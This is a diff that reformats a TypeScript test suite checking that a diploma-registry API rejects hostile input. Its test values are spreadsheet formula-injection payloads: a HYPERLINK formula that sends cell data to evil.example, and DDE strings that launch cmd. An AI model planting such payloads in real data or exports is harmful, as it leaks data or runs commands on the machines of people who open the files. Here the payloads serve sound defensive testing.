@@ -14,24 +14,44 @@ interface Problem {
 
 const LOTS = '/api/v1/authorities/SGD-HP/blank-lots';
 const lot = {
-  lotId: 'HP-2024-THPT-1', kind: 'THPT', templateVersion: 'TT21-2019', prefix: 'HP', width: 7, from: 200001, to: 200100,
-  supplier: 'Nhà in Bộ GDĐT', deliveryNote: { number: 'PGH-0524', date: '2024-05-20' }, receivedBy: 'Nguyễn Thị Lan', receivedOn: '2024-05-20',
+  lotId: 'HP-2024-THPT-1',
+  kind: 'THPT',
+  templateVersion: 'TT21-2019',
+  prefix: 'HP',
+  width: 7,
+  from: 200001,
+  to: 200100,
+  supplier: 'Nhà in Bộ GDĐT',
+  deliveryNote: { number: 'PGH-0524', date: '2024-05-20' },
+  receivedBy: 'Nguyễn Thị Lan',
+  receivedOn: '2024-05-20',
 };
 
 describe('hostile input on a write route (issue 16)', () => {
   let t: TestSystem;
   beforeAll(async () => {
     t = await startTestSystem();
-    const roles = await t.request('POST', '/api/v1/authorities/SGD-HP/officers/admin-hp/roles', { body: { roles: ['administrator', 'registrar'], includeSubordinates: false } });
+    const roles = await t.request('POST', '/api/v1/authorities/SGD-HP/officers/admin-hp/roles', {
+      body: { roles: ['administrator', 'registrar'], includeSubordinates: false },
+    });
     expect(roles.status).toBe(201);
   });
   afterAll(() => t.stop());
 
   async function refused(body: string | object, expectedStatus: number): Promise<Problem> {
     const before = (await t.events()).length;
-    const answer = typeof body === 'string'
-      ? await fetch(`${t.api}${LOTS}`, { method: 'POST', body, headers: { 'content-type': 'application/json', authorization: `Bearer ${t.adminToken}`, 'idempotency-key': crypto.randomUUID() } })
-      : await t.request('POST', LOTS, { body });
+    const answer =
+      typeof body === 'string'
+        ? await fetch(`${t.api}${LOTS}`, {
+            method: 'POST',
+            body,
+            headers: {
+              'content-type': 'application/json',
+              authorization: `Bearer ${t.adminToken}`,
+              'idempotency-key': crypto.randomUUID(),
+            },
+          })
+        : await t.request('POST', LOTS, { body });
     expect(answer.status).toBe(expectedStatus);
     expect(answer.headers.get('content-type')).toMatch(/^application\/problem\+json/);
     const problem = (await answer.json()) as Problem;
@@ -60,10 +80,13 @@ describe('hostile input on a write route (issue 16)', () => {
     expect(problem.fieldProblems?.map((p) => `${p.field} ${p.code}`)).toEqual(['receivedOn DATE_IN_FUTURE']);
   });
 
-  it.each(['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'])('a receiver named %j is 400 FORMULA_TRIGGER', async (attack) => {
-    const problem = await refused({ ...lot, receivedBy: attack }, 400);
-    expect(problem.fieldProblems?.map((p) => `${p.field} ${p.code}`)).toEqual(['receivedBy FORMULA_TRIGGER']);
-  });
+  it.each(['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"])(
+    'a receiver named %j is 400 FORMULA_TRIGGER',
+    async (attack) => {
+      const problem = await refused({ ...lot, receivedBy: attack }, 400);
+      expect(problem.fieldProblems?.map((p) => `${p.field} ${p.code}`)).toEqual(['receivedBy FORMULA_TRIGGER']);
+    },
+  );
 
   it('a control character in a name is 400 FORBIDDEN_CHARACTERS', async () => {
     const problem = await refused({ ...lot, receivedBy: 'Nguyễn\u0007Lan' }, 400);
@@ -75,14 +98,28 @@ describe('hostile input on a write route (issue 16)', () => {
     csv[1] = csv[1]?.replace('Lê Đình Quân', '"=HYPERLINK(""http://evil.example"",""Bấm"")"') ?? '';
     csv[2] = csv[2]?.replace('Nguyễn Đức Trí', '@SUM(1+1)') ?? '';
     const form = new FormData();
-    for (const [name, value] of Object.entries({ decisionId: 'sgd-hp-formula-2024', number: '98/QĐ-SGDĐT', date: '2024-07-20', kind: 'THPT', schoolYear: '2023-2024' })) form.append(name, value);
+    for (const [name, value] of Object.entries({
+      decisionId: 'sgd-hp-formula-2024',
+      number: '98/QĐ-SGDĐT',
+      date: '2024-07-20',
+      kind: 'THPT',
+      schoolYear: '2023-2024',
+    }))
+      form.append(name, value);
     form.append('file', new Blob([csv.join('\n')]), 'danh-sach.csv');
     const before = (await t.events()).length;
-    const answer = await fetch(`${t.api}/api/v1/authorities/SGD-HP/decisions`, { method: 'POST', body: form, headers: { authorization: `Bearer ${t.adminToken}`, 'idempotency-key': crypto.randomUUID() } });
+    const answer = await fetch(`${t.api}/api/v1/authorities/SGD-HP/decisions`, {
+      method: 'POST',
+      body: form,
+      headers: { authorization: `Bearer ${t.adminToken}`, 'idempotency-key': crypto.randomUUID() },
+    });
     expect(answer.status).toBe(400);
     const problem = (await answer.json()) as Problem;
     expect(problem.code).toBe('GRADUATE_LIST_REJECTED');
-    expect(problem.fieldProblems?.map((p) => `${p.field} ${p.code}`)).toEqual(['row 2: Họ và tên FORMULA_TRIGGER', 'row 3: Họ và tên FORMULA_TRIGGER']);
+    expect(problem.fieldProblems?.map((p) => `${p.field} ${p.code}`)).toEqual([
+      'row 2: Họ và tên FORMULA_TRIGGER',
+      'row 3: Họ và tên FORMULA_TRIGGER',
+    ]);
     expect((await t.events()).length).toBe(before);
   }, 120_000);
 
